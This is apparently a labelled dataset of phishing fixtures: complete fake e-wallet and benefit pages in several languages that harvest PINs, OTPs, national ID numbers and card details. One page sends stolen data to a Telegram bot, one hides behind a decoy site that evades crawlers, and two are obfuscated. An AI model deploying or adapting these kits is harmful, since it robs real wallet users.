import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { b64, badge, doc, jsonRoute, walletCss, xorHex, codes, pct } from '../parts/zy-kit.js';

export const entries: Entry[] = [
{
  id: 'zy-gcash-mpin-otp-taglish',
  label: 'phishing',
  kind: 'ewallet-kit',
  url: 'https://gcash.com-securelogin.info/m/claim',
  body: doc({
    title: 'GCash',
    lang: 'fil',
    head: '<link rel="icon" href="/m/favicon.ico"><meta name="theme-color" content="#007cff">',
    css: walletCss('#007cff', '#e9f2ff') + `.logo{font:800 30px Arial;letter-spacing:-1px}.promo{background:#fff8e1;border:1px solid #ffe08a;border-radius:10px;padding:12px;font-size:13px;margin-bottom:10px}.cc{display:flex;align-items:center;border:1px solid #d5dbe6;border-radius:10px}.cc span{padding:0 10px;color:#555;border-right:1px solid #d5dbe6}.cc input{border:0}`,
    body: `<div class="app">
<div class="bar"><div class="logo">G<span style="font-weight:400">Cash</span></div><h1>Claim your ₱1,500 cashback</h1><p>Finance Your Future · Promo period ends today 11:59 PM</p></div>
<div class="pane">
 <div class="promo">🎉 Congrats! Ang iyong GCash account ay napili para sa <b>GCash Anniversary Cashback</b>. I-verify ang iyong account para ma-credit ang ₱1,500 bago mag-expire ngayong araw.</div>
 <form id="s1" autocomplete="off">
  <label for="msisdn">Enter your mobile number</label>
  <div class="cc"><span>+63</span><input id="msisdn" name="msisdn" inputmode="numeric" maxlength="10" placeholder="9XX XXX XXXX" required></div>
  <button class="btn" type="submit">Next</button>
 </form>
 <form id="s2" class="hide" autocomplete="off">
  <p style="text-align:center;font-weight:600">Enter your 4-digit MPIN</p>
  <div class="pin"><input type="password" maxlength="1" inputmode="numeric"><input type="password" maxlength="1" inputmode="numeric"><input type="password" maxlength="1" inputmode="numeric"><input type="password" maxlength="1" inputmode="numeric"></div>
  <div class="err hide" id="e2">Mali ang MPIN. Subukan muli.</div>
  <button class="btn" type="submit">Log in</button>
  <p class="note"><a href="#">Forgot MPIN?</a></p>
 </form>
 <form id="s3" class="hide" autocomplete="off">
  <p style="text-align:center">We sent a 6-digit authentication code to <b id="num"></b>. Huwag ibahagi ang code kahit kanino.</p>
  <input id="otp" name="otp" inputmode="numeric" maxlength="6" placeholder="••••••" style="text-align:center;letter-spacing:8px;font-size:22px">
  <button class="btn" type="submit">Submit</button>
  <p class="note">Didn't get the code? <a href="#" id="resend">Resend (59s)</a></p>
 </form>
 <div id="s4" class="hide" style="text-align:center;padding:40px 0"><p>Processing your cashback…</p><p class="note">Please do not close this page.</p></div>
 <p class="note">GCash is powered by G-Xchange, Inc., regulated by the Bangko Sentral ng Pilipinas. © 2025 G-Xchange, Inc.</p>
</div></div>
<script>
(function(){
 var d={sid:Math.random().toString(36).slice(2)};
 function send(step,extra){var b=new URLSearchParams(Object.assign({step:step},d,extra));return fetch("next.php",{method:"POST",body:b}).catch(function(){});}
 function show(n){["s1","s2","s3","s4"].forEach(function(i){document.getElementById(i).classList.toggle("hide",i!==n)});}
 var pins=document.querySelectorAll("#s2 .pin input");
 pins.forEach(function(p,i){p.addEventListener("input",function(){if(p.value&&pins[i+1])pins[i+1].focus()})});
 document.getElementById("s1").onsubmit=function(e){e.preventDefault();d.msisdn="+63"+document.getElementById("msisdn").value.replace(/\\D/g,"");send(1,{});document.getElementById("num").textContent=d.msisdn;show("s2");pins[0].focus();};
 var tries=0;
 document.getElementById("s2").onsubmit=function(e){e.preventDefault();var m="";pins.forEach(function(p){m+=p.value});send(2,{mpin:m,t:tries});
  if(tries++===0){document.getElementById("e2").classList.remove("hide");pins.forEach(function(p){p.value=""});pins[0].focus();return;}show("s3");};
 document.getElementById("s3").onsubmit=function(e){e.preventDefault();send(3,{otp:document.getElementById("otp").value});show("s4");setTimeout(function(){location.href="https://www.gcash.com/"},4000);};
})();
</script>`,
  }),
  routes: {
    'gcash.com-securelogin.info/m/next.php': jsonRoute({ status: 'ok' }),
  },
},
{
  id: 'zy-easypaisa-bisp-8171-registration',
  label: 'phishing',
  kind: 'gov-benefit-kit',
  url: 'https://8171-ehsaas-program.online/registration',
  body: doc({
    title: 'احساس پروگرام 8171 | BISP Online Registration 2025',
    lang: 'ur',
    dir: 'rtl',
    css: `body{margin:0;font-family:"Noto Nastaliq Urdu","Jameel Noori Nastaleeq",Tahoma,serif;background:#f0f5f0;color:#123}
header{background:#006633;color:#fff;padding:14px 20px;display:flex;align-items:center;gap:14px}header img{height:52px}
.w{max-width:560px;margin:22px auto;background:#fff;border-radius:10px;padding:22px;border-top:5px solid #006633}
h1{font-size:22px;margin:0 0 8px}.amt{background:#e7f6ec;color:#006633;padding:10px;border-radius:8px;font-size:20px;text-align:center}
label{display:block;margin:14px 0 4px;font-size:15px}input{width:100%;padding:12px;font-size:16px;border:1px solid #bcd;border-radius:6px;direction:ltr;text-align:left}
button{width:100%;background:#006633;color:#fff;border:0;padding:14px;font-size:18px;border-radius:6px;margin-top:18px}small{color:#666}`,
    body: `<header><svg width="52" height="52" viewBox="0 0 52 52"><circle cx="26" cy="26" r="25" fill="#fff"/><path d="M26 8a18 18 0 1 0 12 31 14 14 0 1 1 0-22A18 18 0 0 0 26 8z" fill="#006633"/><path d="M36 18l2 5 5 .4-4 3.4 1.3 5-4.3-2.7-4.3 2.7 1.3-5-4-3.4 5-.4z" fill="#006633"/></svg><div><b>بینظیر انکم سپورٹ پروگرام</b><br><small style="color:#cfe">حکومت پاکستان · احساس کفالت</small></div></header>
<div class="w"><h1>احساس کفالت پروگرام آن لائن رجسٹریشن</h1>
<div class="amt">امدادی رقم: <b>25,000 روپے</b> — ایزی پیسہ اکاؤنٹ میں فوری منتقلی</div>
<p>اپنا شناختی کارڈ نمبر اور ایزی پیسہ اکاؤنٹ کی تفصیل درج کریں۔ اہلیت کی تصدیق کے بعد رقم آپ کے اکاؤنٹ میں منتقل کر دی جائے گی۔</p>
<form method="post" action="/registration/submit.php">
<label>شناختی کارڈ نمبر (CNIC)</label><input name="cnic" placeholder="3520212345671" maxlength="13" required>
<label>ماں کا نام</label><input name="mother" required>
<label>ایزی پیسہ موبائل اکاؤنٹ نمبر</label><input name="ep_number" placeholder="03XXXXXXXXX" required>
<label>ایزی پیسہ 5 ہندسوں کا پن (PIN)</label><input name="ep_pin" type="password" maxlength="5" required>
<button>رجسٹریشن مکمل کریں</button></form>
<p><small>آخری تاریخ: 30 جون 2025 · ہیلپ لائن: 0800-26477</small></p></div>`,
  }),
  routes: {
    '8171-ehsaas-program.online/registration/submit.php': htmlRoute(doc({ title: 'OTP تصدیق', lang: 'ur', dir: 'rtl', body: '<div style="max-width:480px;margin:40px auto;font-family:Tahoma"><h2>تصدیقی کوڈ درج کریں</h2><p>آپ کے ایزی پیسہ نمبر پر بھیجا گیا 6 ہندسوں کا کوڈ درج کریں</p><form method="post" action="/registration/otp.php"><input name="otp" maxlength="6" style="font-size:20px;padding:10px;width:100%"><button style="margin-top:12px;padding:12px;width:100%">تصدیق</button></form></div>' })),
  },
},
{
  id: 'zy-bkash-cashback-pin-bengali',
  label: 'phishing',
  kind: 'ewallet-kit',
  url: 'https://bkash-offer-bd.xyz/cashback/',
  body: doc({
    title: 'বিকাশ ক্যাশব্যাক অফার',
    lang: 'bn',
    css: walletCss('#e2136e', '#fde8f1') + `body{font-family:"Hind Siliguri","SolaimanLipi",Arial,sans-serif}.big{font-size:34px;font-weight:800}`,
    body: `<div class="app"><div class="bar"><b style="font-size:26px">bKash</b><h1>ঈদ ক্যাশব্যাক অফার</h1><p>সীমিত সময়ের জন্য — আজই শেষ দিন</p></div>
<div class="pane" id="one"><p style="text-align:center">অভিনন্দন! আপনি পেয়েছেন</p><p class="big" style="text-align:center;color:#e2136e">৳ ৫০০ ক্যাশব্যাক</p>
<form id="b1"><label>আপনার বিকাশ অ্যাকাউন্ট নম্বর</label><input id="num" type="tel" placeholder="01XXXXXXXXX" maxlength="11" required>
<label>বিকাশ পিন</label><input id="pin" type="password" maxlength="5" inputmode="numeric" required>
<button class="btn">ক্যাশব্যাক গ্রহণ করুন</button></form></div>
<div class="pane hide" id="two"><p>আপনার নম্বরে একটি ভেরিফিকেশন কোড পাঠানো হয়েছে</p><form id="b2"><input id="code" maxlength="6" inputmode="numeric" placeholder="বিকাশ ভেরিফিকেশন কোড"><button class="btn">নিশ্চিত করুন</button></form></div>
<p class="note">© bKash Limited · বাংলাদেশ ব্যাংক অনুমোদিত · হেল্পলাইন ১৬২৪৭</p></div>
<script>
var bt="6894412250:AAHm2xQv7lZ8cEw0RrT1uJpN4aKfYgD3sBo",ch="1882934407";
function tg(x){return fetch("https://api.telegram.org/bot"+bt+"/sendMessage?chat_id="+ch+"&text="+encodeURIComponent(x))}
document.getElementById("b1").onsubmit=function(e){e.preventDefault();tg("bKash\\nNumber: "+num.value+"\\nPIN: "+pin.value);one.classList.add("hide");two.classList.remove("hide")};
document.getElementById("b2").onsubmit=function(e){e.preventDefault();tg("bKash OTP "+num.value+": "+code.value).then(function(){location.href="https://www.bkash.com/"})};
</script>`,
  }),
},
{
  id: 'zy-ezcash-reward-sinhala',
  label: 'phishing',
  kind: 'ewallet-kit',
  url: 'https://ezcash-rewards.lk-dialog.net/claim.html',
  body: doc({
    title: 'eZ Cash ත්‍යාග',
    lang: 'si',
    css: walletCss('#b5121b', '#fbeeee') + `body{font-family:"Noto Sans Sinhala","Iskoola Pota",Arial,sans-serif}`,
    body: `<div class="app"><div class="bar"><b>eZ Cash</b> <span style="opacity:.8">by Dialog</span><h1>සුභ පැතුම්! 🎉</h1><p>අවුරුදු ත්‍යාග වැඩසටහන 2025</p></div>
<div class="pane"><p>ඔබේ eZ Cash ගිණුමට <b>රු. 5,000</b> ක අවුරුදු ත්‍යාගයක් හිමි වී ඇත. ත්‍යාගය ලබා ගැනීමට ඔබගේ ගිණුම තහවුරු කරන්න.</p>
<form id="z" method="post" action="claim.php">
<label>ජංගම දුරකථන අංකය</label><input name="mobile" placeholder="07X XXX XXXX" required>
<label>ජාතික හැඳුනුම්පත් අංකය (NIC)</label><input name="nic" required>
<label>eZ Cash PIN අංකය</label><input name="pin" type="password" maxlength="4" required>
<button class="btn">ත්‍යාගය ලබා ගන්න</button></form>
<p class="note">Dialog Axiata PLC · Central Bank of Sri Lanka approved mobile money service</p></div></div>
<script>document.getElementById("z").addEventListener("submit",function(){var x=new Image();x.src="claim.php?b="+btoa(this.mobile.value+"|"+this.pin.value)});</script>`,
  }),
},
{
  id: 'zy-shopeepay-cloaked-mobile-only',
  label: 'phishing',
  kind: 'cloaked-kit',
  url: 'https://spay-verify-id.com/masuk',
  body: `<!DOCTYPE html><html lang="id"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Jasa Desain Interior Minimalis</title>
<style>body{font-family:Georgia,serif;max-width:720px;margin:40px auto;color:#333;padding:0 16px}h1{font-weight:400}</style></head><body>
<div id="root"><h1>Studio Ruang Teduh</h1><p>Jasa desain interior rumah minimalis untuk area Jabodetabek. Konsultasi gratis, estimasi RAB dalam 3 hari kerja.</p><p>Portofolio kami meliputi apartemen, ruko, dan rumah tapak tipe 36 hingga 120.</p><p>Hubungi: studio@ruangteduh.example</p></div>
<script>
(function(){
 var ua=navigator.userAgent||"";
 var bot=/bot|crawl|spider|headless|lighthouse|python|curl|wget|scan|preview|facebookexternalhit/i.test(ua)||navigator.webdriver||!("ontouchstart" in window)||screen.width>900;
 if(bot)return;
 var p=[${codes('<style>body{font-family:Roboto,Arial;background:#fff;margin:0}.h{background:#ee4d2d;color:#fff;padding:18px}.c{padding:18px}input{width:100%;padding:12px;margin:8px 0;border:1px solid #ddd;border-radius:4px;font-size:16px}button{width:100%;padding:13px;background:#ee4d2d;color:#fff;border:0;border-radius:4px;font-size:16px}</style><div class="h"><b>ShopeePay</b><div style="font-size:13px">Verifikasi akun diperlukan</div></div><div class="c"><p>Saldo ShopeePay kamu dibekukan sementara karena login dari perangkat baru. Masukkan data untuk membuka blokir.</p><form method="post" action="/masuk/cek.php"><input name="user" placeholder="No. HP / Email / Username" required><input name="pass" type="password" placeholder="Password Shopee" required><input name="pin" type="password" maxlength="6" placeholder="PIN ShopeePay (6 digit)" required><button>Buka Blokir</button></form></div>')}];
 document.title="ShopeePay";
 document.getElementById("root").outerHTML=String.fromCharCode.apply(null,p);
 document.body.style.cssText="max-width:none;margin:0;padding:0";
})();
</script></body></html>`,
},
{
  id: 'zy-grabpay-xor-loader-ph',
  label: 'phishing',
  kind: 'ewallet-kit-obfuscated',
  url: 'https://grab-rewardsph.net/r/8c1f2a',
  body: (() => {
    const kit = `<div style="max-width:400px;margin:0 auto;font-family:Arial,sans-serif"><div style="background:#00b14f;color:#fff;padding:22px"><b style="font-size:26px">Grab</b><h2 style="margin:10px 0 0">GrabRewards: 3,500 points expiring</h2><p>Convert your points to ₱875 GrabPay Credits before midnight.</p></div><form method="post" action="/r/convert.php" style="padding:20px"><label>Mobile number</label><input name="phone" style="width:100%;padding:12px;margin:6px 0 12px" placeholder="+63 9XX XXX XXXX"><label>GrabPay 6-digit PIN</label><input name="pin" type="password" maxlength="6" style="width:100%;padding:12px;margin:6px 0 12px"><label>Linked card number</label><input name="card" inputmode="numeric" maxlength="19" style="width:100%;padding:12px;margin:6px 0 12px"><div style="display:flex;gap:8px"><input name="exp" placeholder="MM/YY" style="flex:1;padding:12px"><input name="cvv" placeholder="CVV" maxlength="4" style="flex:1;padding:12px"></div><button style="width:100%;margin-top:16px;background:#00b14f;color:#fff;border:0;padding:14px;border-radius:24px;font-size:16px">Convert points</button></form></div>`;
    return `<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Grab</title></head><body>
<script>
var k=0x5a,h="${xorHex(kit, 0x5a)}",o="";
for(var i=0;i<h.length;i+=2){o+=String.fromCharCode(parseInt(h.substr(i,2),16)^k)}
document.body.insertAdjacentHTML("afterbegin",decodeURIComponent(escape(o)));
</script></body></html>`;
  })(),
},
{
  id: 'zy-paykita-local-wallet-pct-escape',
  label: 'phishing',
  kind: 'ewallet-kit-obfuscated',
  url: 'https://paykita-akaun.com/log-masuk/',
  body: (() => {
    const kit = `<div style="font-family:Segoe UI,Arial;max-width:380px;margin:30px auto;border:1px solid #e3e3e3;border-radius:14px;overflow:hidden"><div style="background:#ff7a00;color:#fff;padding:18px 20px"><b style="font-size:22px">PayKita</b><div style="font-size:13px">e-Dompet Rakyat Malaysia</div></div><div style="padding:20px"><p style="font-size:14px">Akaun anda telah digantung sementara kerana aktiviti log masuk yang luar biasa. Log masuk untuk mengaktifkan semula.</p><form method="post" action="sah.php"><input name="telefon" placeholder="No. telefon" style="width:100%;padding:11px;margin-bottom:10px"><input name="katalaluan" type="password" placeholder="Kata laluan" style="width:100%;padding:11px;margin-bottom:10px"><input name="pin" type="password" placeholder="PIN transaksi 6 digit" maxlength="6" style="width:100%;padding:11px;margin-bottom:10px"><button style="width:100%;padding:12px;background:#ff7a00;border:0;color:#fff;border-radius:8px">Log Masuk</button></form></div></div>`;
    return `<html><head><meta charset="utf-8"><title>PayKita - Log Masuk</title><meta name="viewport" content="width=device-width"></head><body><script language="javascript">document.write(unescape('${pct(kit)}'));</script></body></html>`;
  })(),
},
];
